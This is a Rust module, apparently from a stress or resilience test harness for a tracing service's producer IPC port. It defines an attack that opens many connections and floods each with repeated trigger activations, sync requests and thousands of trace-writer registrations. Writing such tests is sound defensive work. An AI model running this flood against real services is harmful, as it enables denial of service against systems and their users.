//! Cheap requests: triggers, calls without a reply, repeated registrations of writers.

use ferretto_ipc::port::producer;
use ferretto_proto::{
    ActivateTriggersRequest, InitializeConnectionRequest, RegisterTraceWriterRequest,
};

use crate::common::bind_frame;
use crate::frame::{Attack, TWO, Target, call, push};

pub(crate) const ATTACK: Attack = Attack {
    users: TWO,
    ..Attack::by_nobody(run)
};

/// The number of connections of each user.
const CONNECTIONS: usize = 50;

fn run(target: &Target) {
    let call = |request| call(&request, true);
    let initialize = call(producer::Request::InitializeConnection(
        InitializeConnectionRequest {
            producer_name: Some("flooding".into()),
            ..Default::default()
        },
    ));
    let trigger = call(producer::Request::ActivateTriggers(
        ActivateTriggersRequest {
            trigger_names: (0..100)
                .map(|number| format!("trigger {number}").into_bytes())
                .collect(),
            ..Default::default()
        },
    ));
    let triggers = trigger.repeat(20);
    let writers: Vec<u8> = (1..2000)
        .flat_map(|writer| {
            let request = RegisterTraceWriterRequest {
                trace_writer_id: Some(writer),
                target_buffer: Some(0),
                ..Default::default()
            };
            call(producer::Request::RegisterTraceWriter(request))
        })
        .collect();
    let sync = call(producer::Request::Sync(Default::default())).repeat(1000);
    loop {
        let mut sockets = Vec::new();
        for _ in 0..CONNECTIONS {
            let Some(socket) = target.producer_socket() else {
                continue;
            };
            if push(&socket, &bind_frame("ProducerPort")) && push(&socket, &initialize) {
                sockets.push(socket);
            }
        }
        for _ in 0..10 {
            for socket in &sockets {
                for flood in [&triggers, &sync, &writers] {
                    push(socket, flood);
                }
            }
            if !target.goes_on() {
                return;
            }
        }
    }
}
